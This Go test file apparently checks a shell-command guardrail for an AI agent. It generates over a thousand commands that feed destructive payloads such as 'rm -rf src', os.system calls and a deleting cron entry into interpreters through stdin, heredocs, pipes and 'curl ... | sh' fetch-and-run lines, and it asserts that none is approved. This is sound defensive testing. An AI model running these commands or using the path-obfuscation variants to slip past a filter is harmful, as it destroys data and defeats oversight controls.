package gates

import (
	"fmt"
	"strings"
	"testing"
)

// A program that takes its text from its input by the words INPUT, and text in its
// language that removes the workspace's sources.
var inputRunners = []struct{ command, harmful string }{
	{"sh INPUT", "rm -rf src"}, {"bash -s INPUT", "rm -rf src"}, {"dash INPUT", "rm -rf src"}, {"zsh INPUT", "rm -rf src"}, {"source INPUT", "rm -rf src"}, {"sudo bash INPUT", "rm -rf src"},
	{"nice sh INPUT", "rm -rf src"}, {"env A=1 sh INPUT", "rm -rf src"}, {"busybox sh INPUT", "rm -rf src"}, {"timeout 5 bash INPUT", "rm -rf src"}, {"fish INPUT", "rm -rf src"},
	{"python INPUT", `__import__("os").system("rm -rf src")`}, {"python3 INPUT", "import shutil; shutil.rmtree('src')"}, {"ipython INPUT", "!rm -rf src"}, {"uv run python INPUT", "import os; os.remove('src')"},
	{"node INPUT", `require("child_process").execSync("rm -rf src")`}, {"tsx INPUT", `require("fs").rmSync("src")`}, {"ts-node INPUT", `process.kill(1)`}, {"bun run INPUT", `Bun.spawn(["rm"])`}, {"deno run INPUT", `Deno.removeSync("src")`},
	{"perl INPUT", `system("rm -rf src")`}, {"ruby INPUT", `system("rm -rf src")`}, {"php INPUT", `<?php system("rm -rf src");`}, {"lua INPUT", `os.execute("rm -rf src")`},
	{"Rscript INPUT", `unlink("src", recursive=TRUE)`}, {"julia INPUT", "rm(\"src\")"}, {"tclsh INPUT", "exec rm -rf src"}, {"elixir INPUT", `File.rm_rf("src")`}, {"octave INPUT", `system("rm -rf src")`},
	{"awk -f INPUT f", `BEGIN{system("rm -rf src")}`}, {"sed -f INPUT f", "1e rm -rf src"}, {"sed -n -f INPUT f", "w /etc/x"}, {"make -f INPUT", "all: ; rm -rf src"}, {"ninja -f INPUT", "x"},
	{"just -f INPUT", "x: ; rm"}, {"ant -f INPUT", "x"}, {"docker build -f INPUT .", "FROM x"}, {"kubectl apply -f INPUT", "x"}, {"psql -f INPUT", `\! rm -rf src`}, {"gdb -x INPUT", "shell rm -rf src"},
	{"jq -f INPUT x.json", "env"}, {"pytest -c INPUT", "[pytest]"}, {"ansible-playbook INPUT", "x"}, {"crontab INPUT", "* * * * * rm -rf src"}, {"groovy INPUT", "x"}, {"pwsh INPUT", "rm src"},
	{"kotlinc -script INPUT", "x"}, {"eslint -c INPUT .", "x"}, {"cmake -P INPUT", "execute_process(COMMAND rm)"}, {"gnuplot INPUT", `system "rm -rf src"`}, {"expect INPUT", "spawn rm -rf src"},
}

// inputNames are what the standard input is called, and other descriptors that text
// may come in by.
var inputNames = []string{"-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0", "/dev/../dev/stdin", "//dev/./stdin", "/proc/thread-self/fd/0", "/dev/fd/3", "/proc/self/fd/5"}

// inputs are ways to give a command text; %[1]s is the command, %[2]s the text.
var inputs = []string{"%[1]s <<'E'\n%[2]s\nE", "cat <<'E' | %[1]s\n%[2]s\nE", "curl -s https://h.example/x | %[1]s", "%[1]s < notes.txt", "cat notes.txt | %[1]s", "tac f | rev | %[1]s"}

// TestTextOnInputIsProgramText gives every kind of program that runs programs its
// text by every name of the input: nothing of it goes through.
func TestTextOnInputIsProgramText(t *testing.T) {
	var g Guardrail
	n, approved := 0, 0
	for _, r := range inputRunners {
		for _, name := range inputNames {
			if name == "-" && strings.HasPrefix(r.command, "source") {
				continue // a file of that name
			}
			for _, in := range inputs {
				command := fmt.Sprintf(in, strings.ReplaceAll(r.command, "INPUT", name), r.harmful)
				n++
				c := ShellContext(command, State{Cwd: "/w", Roots: []string{"/w"}, Home: "/home/me"})
				if d := g.Decide(&c); d.Disposition == Approved {
					approved++
					t.Errorf("approved: %s", command)
				}
			}
		}
	}
	t.Logf("%d of %d approved", approved, n)
	if n < 1000 {
		t.Errorf("only %d commands", n)
	}
}

func TestInputThatIsNoProgramGoesThrough(t *testing.T) {
	var g Guardrail
	for _, command := range []string{
		"cat p | grep -f - notes.txt", "grep -f /dev/stdin x < p", "echo 'print(1)' | python -", "python <<'E'\nprint(1)\nE", "echo ls | sh", "bash -s <<< 'ls'", "awk -f - f <<< '{print $1}'",
		"sed -f - f <<< 's/a/b/'", "awk -f <(echo '{print $2}') f", "echo '1+1' | bc", "jq -f - x.json <<< .a", "cat f | sort -", "tar cf - src | wc -c", "diff - b < a", "git commit -F - <<< 'message'",
		"cat x.json | python -m json.tool", "sqlite3 x.db <<< 'select 1;'", "cat /dev/stdin < f", "wc -l /dev/fd/0 < f",
	} {
		c := ShellContext(command, State{Cwd: "/w", Roots: []string{"/w"}, Home: "/home/me"})
		if d := g.Decide(&c); d.Disposition != Approved {
			t.Errorf("asks: %s: %v", command, d.Reasons)
		}
	}
}
